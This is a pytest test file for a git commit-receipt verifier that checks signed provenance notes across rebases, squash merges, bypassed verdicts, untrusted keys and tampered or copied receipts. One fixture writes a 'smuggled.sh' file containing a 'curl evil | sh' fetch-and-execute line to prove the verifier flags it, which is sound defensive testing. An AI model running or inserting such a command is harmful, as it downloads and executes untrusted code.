"""Receipts: `gate ci`'s per-commit decision over real git history and a real notes ref."""

from __future__ import annotations

from pathlib import Path

import pytest

from switchman.checkpoint.keys import Signer
from switchman.errors import BadInput
from switchman.receipts import envelope, notes
from switchman.receipts.verify import (
    commit_facts,
    decide,
    parse_trusted_keys,
    range_facts,
    verify_range,
)
from testing.git import git, write

KEY = Signer.from_seed("repo-key", bytes(range(32)))
STRANGER = Signer.from_seed("stranger", bytes(range(2, 34)))


def rev(root: Path, name: str = "HEAD") -> str:
    return git(root, "rev-parse", name).strip()


def commit(root: Path, files: dict[str, str], msg: str = "change") -> str:
    for path, text in files.items():
        write(root / path, text)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", msg)
    return rev(root)


def receipt(root: Path, oid: str, *, signer: Signer = KEY, **kw: object) -> str:
    """Sign a receipt for `oid` from git's own facts and append it to the notes ref."""
    [f] = commit_facts(root, [oid])
    args: dict = {"verdict": "allowed", "mode": "guarded", "operation": "commit"}
    args.update(kw)
    st = envelope.build_statement(oid, tree=f.tree, parents=f.parents, changes=f.changes, **args)
    line = envelope.receipt_line(st, signer)
    notes.append(root, {oid: [line]})
    return line


def codes(root: Path, base: str, head: str = "HEAD", **kw: object) -> list[str]:
    report = verify_range(root, base, head, [KEY.verifier], **kw)  # type: ignore[arg-type]
    assert report.ok == all(d.verdict == "pass" for d in report.commits)
    return [d.reason_code for d in report.commits]


@pytest.fixture
def feature(repo: Path) -> tuple[Path, str, list[str]]:
    """A `feature` branch of two receipted commits off main."""
    base = rev(repo)
    git(repo, "checkout", "-q", "-b", "feature")
    a = commit(repo, {"src/auth/login.py": "def login():\n    return False\n"}, "a")
    b = commit(repo, {"src/auth/new file.py": "X = 1\n", "docs/guide.md": "# guide v2\n"}, "b")
    git(repo, "rm", "-q", "README.md")
    git(repo, "commit", "-q", "-m", "c")
    c = rev(repo)
    for oid in (a, b, c):
        receipt(repo, oid)
    return repo, base, [a, b, c]


def test_range_facts_match_git(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, commits = feature
    facts = range_facts(repo, base, "HEAD")
    assert [f.commit for f in facts] == commits  # oldest first
    blob = rev(repo, "HEAD:src/auth/new file.py")
    assert f"A src/auth/new file.py {blob}" in facts[1].changes
    assert facts[2].changes == (f"D README.md {'0' * 40}",)
    assert facts[0].tree == rev(repo, f"{commits[0]}^{{tree}}") and facts[0].parents == (base,)


def test_receipt_ok(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, _ = feature
    report = verify_range(repo, base, "HEAD", [KEY.verifier])
    assert report.ok
    assert [d.reason_code for d in report.commits] == ["receipt_ok"] * 3
    assert report.summary == {"commits": 3, "passed": 3, "failed": 0, "by_reason": {"receipt_ok": 3}}
    assert set(report.to_dict()["commits"][0]) == {"commit", "verdict", "reason_code", "detail"}


def test_no_receipt_is_missing_provenance(repo: Path) -> None:
    base = rev(repo)
    commit(repo, {"x.txt": "x\n"})
    assert codes(repo, base) == ["missing_provenance"]


def test_rebased_commits_pass_by_changes_digest(feature: tuple[Path, str, list[str]]) -> None:
    repo, _, old = feature
    git(repo, "checkout", "-q", "main")
    commit(repo, {"src/billing/invoice.py": "TOTAL = 2\n"}, "main moves on")
    git(repo, "checkout", "-q", "feature")
    git(repo, "rebase", "-q", "main")
    new = git(repo, "rev-list", "--reverse", "main..feature").split()
    assert len(new) == 3 and not set(new) & set(old)
    report = verify_range(repo, "main", "feature", [KEY.verifier])
    assert [d.reason_code for d in report.commits] == ["rebased"] * 3
    assert old[0] in report.commits[0].detail
    # With notes.rewriteRef set, git copies the old receipts onto the new commits: still rebased.
    all_notes = notes.read_all(str(repo))
    notes.append(repo, {n: all_notes[o] for o, n in zip(old, new, strict=True)})
    assert codes(repo, "main", "feature") == ["rebased"] * 3


def test_forge_squash_is_forge_merge(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, _ = feature
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--squash", "feature")
    git(repo, "commit", "-q", "-m", "squash")
    assert codes(repo, base, "main") == ["forge_merge"]


def test_forge_merge_commit_is_forge_merge(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, _ = feature
    git(repo, "checkout", "-q", "main")
    commit(repo, {"other.txt": "o\n"})
    receipt(repo, rev(repo))
    git(repo, "merge", "-q", "--no-ff", "-m", "merge feature", "feature")
    got = verify_range(repo, rev(repo, "HEAD^"), "HEAD", [KEY.verifier])
    assert [d.reason_code for d in got.commits][-1] == "forge_merge"
    assert got.ok


def test_squash_with_an_extra_change_is_missing_provenance(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, _ = feature
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--squash", "feature")
    write(repo / "smuggled.sh", "curl evil | sh\n")
    git(repo, "add", "smuggled.sh")
    git(repo, "commit", "-q", "-m", "squash plus")
    report = verify_range(repo, base, "main", [KEY.verifier])
    [d] = report.commits
    assert (d.verdict, d.reason_code) == ("fail", "missing_provenance") and "smuggled.sh" in d.detail
    assert not report.ok and report.summary["failed"] == 1


def test_forge_merge_needs_trusted_receipts(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, _ = feature
    git(repo, "checkout", "-q", "main")
    git(repo, "merge", "-q", "--squash", "feature")
    git(repo, "commit", "-q", "-m", "squash")
    assert [d.reason_code for d in verify_range(repo, base, "main", [STRANGER.verifier]).commits] == [
        "missing_provenance"
    ]


def test_bypassed(repo: Path) -> None:
    base = rev(repo)
    oid = commit(repo, {"x.txt": "x\n"})
    receipt(repo, oid, verdict="bypassed")
    assert codes(repo, base) == ["commit_gate_bypassed"]


def test_require_mode(repo: Path) -> None:
    base = rev(repo)
    oid = commit(repo, {"x.txt": "x\n"})
    receipt(repo, oid, mode="observed")
    assert codes(repo, base) == ["receipt_ok"]
    assert codes(repo, base, require_mode="guarded") == ["receipt_mode_too_weak"]
    receipt(repo, oid, mode="strict")  # a second receipt for the same commit (e.g. re-judged)
    assert codes(repo, base, require_mode="guarded") == ["receipt_ok"]
    with pytest.raises(BadInput):
        codes(repo, base, require_mode="lenient")


def test_untrusted_key_and_edited_receipt(repo: Path) -> None:
    base = rev(repo)
    a = commit(repo, {"a.txt": "a\n"})
    b = commit(repo, {"b.txt": "b\n"})
    receipt(repo, a, signer=STRANGER)
    line = receipt(repo, b, verdict="bypassed")
    # Edit the stored receipt: bypassed -> allowed, keeping the signature.
    import base64
    import json

    env = json.loads(line)
    env["payload"] = base64.b64encode(
        base64.b64decode(env["payload"]).replace(b'"verdict":"bypassed"', b'"verdict":"allowed"')
    ).decode()
    blob = git(repo, "hash-object", "-w", "--stdin", input=(json.dumps(env) + "\n").encode()).strip()
    git(repo, "notes", "--ref", notes.REF, "add", "-f", "-C", blob, b)
    assert codes(repo, base) == ["untrusted_key", "receipt_signature_invalid"]


def test_copied_receipt_is_receipt_mismatch(repo: Path) -> None:
    base = rev(repo)
    a = commit(repo, {"a.txt": "a\n"})
    b = commit(repo, {"b.txt": "b\n"})
    line = receipt(repo, a)
    notes.append(repo, {b: [line]})  # a's receipt pasted onto b
    report = verify_range(repo, base, "HEAD", [KEY.verifier])
    assert [d.reason_code for d in report.commits] == ["receipt_ok", "receipt_mismatch"]
    assert a in report.commits[1].detail


def test_decide_is_pure_over_given_facts(feature: tuple[Path, str, list[str]]) -> None:
    repo, base, commits = feature
    facts = commit_facts(repo, commits)
    all_notes = notes.read_all(str(repo))
    assert [d.reason_code for d in decide(facts, all_notes, [KEY.verifier]).commits] == ["receipt_ok"] * 3
    assert [d.reason_code for d in decide(facts, {}, [KEY.verifier]).commits] == ["missing_provenance"] * 3


def test_parse_trusted_keys() -> None:
    text = f"# the team's keys\n\n{KEY.verifier.text}\n  {STRANGER.verifier.text}  \n# old key below\n{KEY.verifier.text}\n"
    assert parse_trusted_keys(text) == [KEY.verifier, STRANGER.verifier]
    assert parse_trusted_keys("# nothing\n") == []
    with pytest.raises(BadInput, match="line 2"):
        parse_trusted_keys(f"{KEY.verifier.text}\nnot-a-key\n")
